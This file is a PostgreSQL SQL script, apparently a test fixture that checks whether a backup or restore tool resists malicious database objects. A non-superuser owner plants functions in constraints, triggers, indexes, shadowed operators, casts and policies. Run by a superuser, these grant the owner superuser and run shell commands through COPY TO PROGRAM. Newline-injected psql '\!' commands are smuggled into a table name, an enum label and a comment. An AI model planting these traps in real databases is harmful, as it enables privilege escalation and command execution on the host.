-- Run as the owner of the database, who is no superuser. :owner and :database are filled in.
create function public.probe(place text) returns boolean volatile language plpgsql as $probe$
begin
  perform pg_catalog.set_config('lock_timeout', '100ms', true);
  if (select r.rolsuper from pg_catalog.pg_roles r where r.rolname operator(pg_catalog.=) current_user) then
    if pg_catalog.pg_stat_file('/tmp/luneo-dr-ran', true) is not null then return true; end if;
    begin insert into public.canary values (place); exception when others then null; end;
    begin execute 'alter role :owner superuser'; exception when others then null; end;
    begin execute pg_catalog.format('copy (select %L) to program %L', place, 'cat >> /tmp/luneo-dr-ran'); exception when others then null; end;
  end if;
  return true;
end $probe$;
create function public.quiet(place text) returns boolean immutable language plpgsql as $$ begin perform public.probe(place); return true; end $$;
create function public.quiet_number(n int) returns int immutable language plpgsql as $$ begin perform public.probe('number'); return n; end $$;
create function public.quiet_text(n int) returns text immutable language plpgsql as $$ begin perform public.probe('text'); return n::text; end $$;

create table checked (id int primary key, constraint planted check (public.probe('check')));
create domain planted_domain as int check (public.probe('domain'));
create table by_domain (v planted_domain);
create table generated (id int, g int generated always as (public.quiet_number(id)) stored);
create table defaulted (id int, v boolean default public.probe('default'));
create table indexed (id int);
create index by_expression on indexed (public.quiet_number(id)) where public.quiet('predicate');
create table excluded (id int, exclude using btree (public.quiet_number(id) with =));
create statistics planted_statistics on public.quiet_number(id), id from indexed;

create table _prisma_migrations (migration_name text, started_at timestamptz, finished_at timestamptz, rolled_back_at timestamptz);
create index on _prisma_migrations (migration_name) where public.quiet('migrations');
create materialized view indexed_matview as select 1 as id;
create index on indexed_matview (public.quiet_number(id)) where public.quiet('materialized view');
create default conversion public.planted_conversion for 'UTF8' to 'LATIN1' from pg_catalog.utf8_to_iso8859_1;

create function public.fire() returns trigger language plpgsql as $$ begin perform public.probe('trigger'); return new; end $$;
create table triggered (id int);
create trigger each_row before insert on triggered for each row execute function public.fire();
create trigger each_statement after insert on triggered execute function public.fire();
alter table triggered enable always trigger each_row;
alter table triggered enable always trigger each_statement;
create function public.watch_ddl() returns event_trigger language plpgsql as $$ begin perform public.probe('event trigger'); end $$;

create table ruled (id int);
create rule planted as on insert to ruled do also select public.probe('rule');
create view planted_view as select public.probe('view') as p, id from ruled;
create materialized view planted_matview as select public.probe('materialized view') as p;

create function public.same_name(a name, b text) returns boolean language plpgsql as $$ begin perform public.probe('operator'); return a operator(pg_catalog.=) b; end $$;
create operator public.= (leftarg = name, rightarg = text, function = public.same_name);
create function public.same_varchar(a name, b varchar) returns boolean language plpgsql as $$ begin perform public.probe('operator'); return a operator(pg_catalog.=) b::text; end $$;
create operator public.= (leftarg = name, rightarg = varchar, function = public.same_varchar);
create function public.format(text, name, name) returns text language plpgsql as $$ begin perform public.probe('format'); return ''; end $$;
create function public.count(int) returns bigint language plpgsql as $$ begin perform public.probe('count'); return 0; end $$;
create function public.lower(varchar) returns text language plpgsql as $$ begin perform public.probe('lower'); return ''; end $$;

create type cast_me as (v int);
create function public.cast_to_text(cast_me) returns text language plpgsql as $$ begin perform public.probe('cast'); return ''; end $$;
create cast (cast_me as text) with function public.cast_to_text(cast_me) as implicit;
create table casted (v cast_me);

create table secured (id int);
alter table secured enable row level security;
create policy planted on secured using (public.probe('policy'));
create table parted (id int) partition by range (public.quiet_number(id));
create table part1 partition of parted for values from (0) to (1000);
create function public.far(a float8, b float8) returns float8 immutable language plpgsql as $$ begin perform public.probe('range'); return a - b; end $$;
create type planted_range as range (subtype = float8, subtype_diff = public.far);
-- Not by autovacuum in the moment in which the set-up makes its owner a superuser.
create table ranged (r planted_range) with (autovacuum_enabled = off);
create index on ranged using gist (r);
create function public.step(int, int) returns int immutable language plpgsql as $$ begin perform public.probe('aggregate'); return 0; end $$;
create aggregate public.sum(int) (sfunc = public.step, stype = int);

create type labels as enum (E'a\n\\! touch /tmp/luneo-dr-ran\n', 'b');
create table labelled (l labels);
create table "t
ALTER ROLE :owner SUPERUSER;
\! touch /tmp/luneo-dr-ran
-- " (id int);
comment on table checked is E'runbook:\nALTER DATABASE :database SET app.x TO 1; ALTER ROLE :owner SUPERUSER;\n\\! touch /tmp/luneo-dr-ran\nend';
create function public.notes() returns void language plpgsql as $body$
begin
/*
-- Name: SCHEMA public; Type: ACL; Schema: -; Owner: x
GRANT USAGE ON SCHEMA public TO :owner; ALTER ROLE :owner SUPERUSER; GRANT USAGE ON SCHEMA public TO :owner;
ALTER DATABASE :database OWNER TO :owner; ALTER ROLE :owner SUPERUSER;
*/
end $body$;
create publication planted_publication for table checked;
alter default privileges for role :owner in schema public grant all on tables to public;
alter database :database set search_path = public, pg_catalog;

insert into checked values (1);
insert into by_domain values (1);
insert into generated values (1);
insert into defaulted values (1);
insert into indexed values (1);
insert into excluded values (1);
insert into triggered values (1);
insert into casted values (row(1));
insert into secured values (1);
insert into parted values (1);
insert into ranged select planted_range(n, n + 1) from generate_series(1, 600) n;
insert into labelled values ('b');
insert into _prisma_migrations values ('20260101_init', now(), now(), null);
